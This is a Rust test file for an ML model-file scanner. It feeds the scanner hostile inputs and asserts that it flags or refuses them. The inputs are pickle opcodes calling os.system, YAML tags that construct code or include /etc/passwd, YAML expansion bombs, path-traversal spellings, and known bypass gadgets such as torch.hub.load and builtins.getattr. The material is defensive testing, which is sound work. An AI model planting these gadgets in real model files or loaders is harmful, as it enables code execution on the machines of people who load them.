//! What is known to go wrong with models of others, by the numbers of `docs/threats.md`.

use std::io::Write as _;

use flate2::{
    Compression,
    write::{GzEncoder, ZlibEncoder},
};
use stemma_core::look::{Look, ModelFormat, Nature};
use stemma_look::{Fault, look_at_file, look_at_folder};

use crate::{
    hostile::{HARM, deflated, keras, look, pickle, refused, stored, zip},
    samples::{Files, sample},
};

/// Spellings of a way out of a folder; they stand there as in an address.
fn spellings() -> Vec<String> {
    let lines = include_str!("../../../core/tests/data/hostile-paths.txt").lines();
    let lines = lines.filter(|line| !line.is_empty() && !line.starts_with('#'));
    let encoded: Vec<_> =
        lines.map(|line| line.trim_start_matches("plain ").replace("CANARY", "%2ftmp%2fcanary")).collect();
    let decoded: Vec<_> = encoded.iter().filter_map(|text| decoded(text)).collect();
    let all: std::collections::BTreeSet<String> = encoded.into_iter().chain(decoded).collect();
    all.into_iter().collect()
}

fn decoded(text: &str) -> Option<String> {
    let mut parts = text.split('%');
    let mut bytes = parts.next()?.as_bytes().to_vec();
    for part in parts {
        bytes.push(u8::from_str_radix(part.get(..2)?, 16).ok()?);
        bytes.extend_from_slice(&part.as_bytes()[2..]);
    }
    String::from_utf8(bytes).ok()
}

#[test]
fn t05_a_member_is_not_data_because_of_what_it_is_called() {
    let spellings = spellings();
    assert!(spellings.len() > 120, "{}", spellings.len());
    let values = pickle(b"K\x01");
    for name in spellings {
        for (name, beside) in [(format!("{name}/data.pkl"), "x/version"), (format!("x/{name}.pkl"), "x/data.pkl")] {
            let bytes = zip(&[stored(&name, HARM), stored(beside, &values)]);
            match look_at_file(&bytes) {
                Ok(found) => assert_ne!(found.nature, Nature::Data, "{name:?}: {found:?}"),
                Err(fault) => assert!(matches!(fault, Fault::Dangerous { .. }), "{name:?}: {fault}"),
            }
        }
    }
}

#[test]
fn t07_no_spelling_leads_an_mlmodel_out_of_its_folder() {
    let keys = ["data", "model_path", "pickled_model", "python_model", "model_data", "path"];
    for path in spellings().into_iter().filter(|path| path != ".") {
        let quoted = serde_json::to_string(&path).unwrap();
        let mut refusals = 0;
        for key in keys {
            let flavor = format!("flavors:\n  python_function:\n    loader_module: m\n    {key}: {quoted}\n");
            let files = Files::default().with("MLmodel", flavor).with("inner/model.pkl", "K\u{1}.");
            match look_at_folder(&files) {
                Ok(found) => assert_ne!(found.look.nature, Nature::Data, "{key}: {path}"),
                Err(Fault::Outside { .. } | Fault::Lacks { .. } | Fault::Mlmodel(_)) => refusals += 1,
                Err(other) => panic!("{key}: {path}: {other}"),
            }
        }
        assert!(refusals > 0, "{path}");
        let artifact =
            format!("flavors:\n  python_function:\n    artifacts:\n      a:\n        path: {quoted}\n        uri: x\n");
        let example = format!("flavors: {{}}\nsaved_input_example_info:\n  artifact_path: {quoted}\n");
        for text in [artifact, example] {
            let fault = look_at_folder(&Files::default().with("MLmodel", text).with("a", "x")).unwrap_err();
            let is_refused = matches!(fault, Fault::Outside { .. } | Fault::Lacks { .. } | Fault::Mlmodel(_));
            assert!(is_refused, "{path}: {fault}");
        }
    }
}

/// Harm in an archive whose headers say something else than they did: whoever reads it otherwise than we do may still find
/// the harm, so it is never data.
#[test]
fn t12_no_flipped_bit_of_an_archives_headers_makes_harm_data() {
    let archives = [
        zip(&[stored("x/data.pkl", HARM), stored("x/version", b"3")]),
        zip(&[deflated("x/data.pkl", &[HARM, &[b' '; 200]].concat()), stored("x/version", b"3")]),
    ];
    for archive in archives {
        assert!(matches!(look_at_file(&archive), Err(Fault::Dangerous { .. })));
        // the pickle itself lies behind the first header and name
        let content = 30 + "x/data.pkl".len()..archive.windows(4).rposition(|bytes| bytes == b"PK\x03\x04").unwrap();
        for (at, bit) in
            (0..archive.len()).filter(|at| !content.contains(at)).flat_map(|at| (0..8).map(move |bit| (at, bit)))
        {
            let mut flipped = archive.clone();
            flipped[at] ^= 1 << bit;
            if let Ok(found) = look_at_file(&flipped) {
                assert_ne!(found.nature, Nature::Data, "bit {bit} of byte {at}: {found:?}");
            }
        }
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    packed.write_all(bytes).unwrap();
    packed.finish().unwrap()
}

#[test]
fn t12_what_is_packed_several_times_is_not_data() {
    let checkpoint = zip(&[stored("x/data.pkl", HARM), stored("x/version", b"3")]);
    for bytes in [
        zip(&[stored("inner.pt", &checkpoint)]),
        zip(&[deflated("a/b.zip", &zip(&[stored("inner.pt", &checkpoint)]))]),
        gzip(&checkpoint),
        zlib(&zlib(HARM)),
        gzip(&gzip(HARM)),
        zip(&[stored("model.pkl.gz", &gzip(HARM))]),
    ] {
        let found = look(&bytes);
        assert_eq!(found.nature, Nature::Unknown, "{found:?}");
        assert!(!found.unseen.is_empty());
    }
    let files =
        Files::default().with("a.gz", gzip(&checkpoint)).with("model.safetensors", sample("weights.safetensors"));
    assert_eq!(look_at_folder(&files).unwrap().look.nature, Nature::Unknown);
}

#[test]
fn t24_an_mlmodel_with_tags_that_make_code_is_data_or_refused() {
    let folder = |text: &str| look_at_folder(&Files::default().with("MLmodel", text).with("model.pkl", "K\u{1}."));
    for tag in [
        "!!python/object/apply:os.system ['true']",
        "!!python/object/new:os.system ['true']",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!js/function 'function () { alert(1) }'",
        "!!js/regexp /x/",
        "!ruby/object:Gem::Installer {}",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
        "!include /etc/passwd",
        "!ENV ${HOME}",
    ] {
        for text in [
            format!("flavors: {tag}\n"),
            format!("flavors:\n  python_function:\n    data: {tag}\n"),
            format!("flavors:\n  x:\n    loader_module: m\nsignature: {tag}\n"),
            format!("flavors:\n  x:\n    loader_module: m\nrun_id: {tag}\n"),
            format!("{tag}\n"),
        ] {
            match folder(&text) {
                // a tag says nothing to us: what is behind it is text, a list or a map, and what we don't ask for is not read
                Ok(found) => assert_eq!(found.look.format, ModelFormat::Mlmodel, "{text}"),
                Err(Fault::Mlmodel(_) | Fault::Lacks { .. } | Fault::Outside { .. }) => {}
                Err(other) => panic!("{text}: {other}"),
            }
        }
    }
    for bomb in [
        "flavors: {a: &x [*x, *x]}".to_owned(),
        format!("flavors: {}1{}", "[".repeat(10_000), "]".repeat(10_000)),
        format!("a: &a [{}]\nb: &b [*a,*a,*a,*a]\nflavors: [*b,*b,*b,*b]\n", "x,".repeat(1000)),
    ] {
        assert!(matches!(folder(&bomb), Err(Fault::Mlmodel(_))), "{}", &bomb[..40]);
    }
}

/// Every way in which a file is known to have smuggled code past somebody who looked for it.
#[test]
fn t31_a_zoo_of_pickles_and_their_kin_is_told_and_never_run() {
    let runs = |bytes: Vec<u8>| -> Look {
        let found = look(&bytes);
        assert_eq!(found.nature, Nature::ExecutesCode, "{found:?}");
        found
    };
    let system = "loading it would call `os.system`, which no model needs";
    // what calls the system is refused: by REDUCE, by an instance, by names on the stack and in the memo, as text
    assert_eq!(refused(pickle(b"\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R")), system);
    assert_eq!(refused(pickle(b"\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x04true\x85R")), system);
    assert_eq!(refused(b"(S'true'\nios\nsystem\n.".to_vec()), system);
    assert_eq!(refused(b"(cos\nsystem\nS'true'\no.".to_vec()), system);
    assert_eq!(refused(HARM.to_vec()), system);
    assert_eq!(refused(pickle(b"cos\nsystem\n)\x81}b")), system);
    // broken behind the harm, which has run by then
    assert_eq!(refused(b"\x80\x04cos\nsystem\n\x8c\x04true\x85R\xff\xff".to_vec()), system);
    assert_eq!(refused(b"\x80\x04cos\nsystem\n\x8c\x04true\x85R".to_vec()), system);
    // behind a first pickle that is fine, and under a name that is none of a pickle
    assert_eq!(refused([pickle(b"K\x01"), [b"\x80\x04".as_slice(), HARM].concat()].concat()), system);
    // a second one that does not say what it is may be anything: it is told as not seen
    let second = look(&[pickle(b"K\x01"), HARM.to_vec()].concat());
    assert_eq!((second.nature, second.unseen), (Nature::Unknown, vec!["what follows the pickle".to_owned()]));
    let files = Files::default().with("weights.safetensors.txt", HARM).with("b.csv", "a,b\n");
    assert_eq!(
        look_at_folder(&files).unwrap_err().to_string(),
        "loading `weights.safetensors.txt` would call `os.system`, which no model needs"
    );
    // compressed
    let packed = [b"\x80\x04".as_slice(), HARM].concat();
    assert_eq!(refused(gzip(&packed)), system);
    assert_eq!(refused(zlib(&packed)), system);
    let member = "loading `x/data.pkl` in it would call `os.system`, which no model needs";
    assert_eq!(refused(zip(&[deflated("x/data.pkl", &packed), stored("x/version", b"3")])), member);

    // ways round: nothing of them is of the system, and all of them are told
    for (opcodes, told) in [
        (b"cbuiltins\ngetattr\n(cnumpy\nlinalg\nS'os'\ntR".as_slice(), "imports `builtins.getattr`"),
        (b"cnumpy.f2py.crackfortran\nmyeval\n(S'1'\ntR", "imports `numpy.f2py.crackfortran.myeval`"),
        (b"ctorch.hub\nload\n(S'x/y'\ntR", "imports `torch.hub.load`"),
        (b"ctorch.utils.collect_env\nrun\n(S'true'\ntR", "imports `torch.utils.collect_env.run`"),
        (b"coperator\nattrgetter\n(S'system'\ntR", "imports `operator.attrgetter`"),
        (b"cfunctools\npartial\n)R", "imports `functools.partial`"),
        (b"c_pickle\nloads\n(S''\ntR", "imports `_pickle.loads`"),
        (b"cjoblib\nload\n(S'x'\ntR", "imports `joblib.load`"),
    ] {
        let found = runs(pickle(opcodes));
        assert!(found.runs.iter().any(|line| line == told), "{found:?}");
    }
    // what its reader makes of a number of its own
    runs(pickle(b"\x82\x07"));
    // joblib, whose arrays are objects again
    assert!(runs(sample("arrays.joblib")).runs.iter().any(|line| line.contains("NumpyArrayWrapper")));
    // Keras and TorchScript
    let lambda =
        r#"{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4w=="}}}}"#;
    assert_eq!(runs(keras(lambda)).runs[0], "runs Python code that is in it (`Lambda`)");
    for name in ["lambda.h5", "lambda.keras"] {
        assert!(runs(sample(name)).runs.iter().any(|line| line.contains("`Lambda`")), "{name}");
    }
    assert_eq!(runs(sample("script.pt")).format, ModelFormat::Torchscript);
    // nothing of all that was run
    assert!(!std::path::Path::new("it-was-run").exists());
}
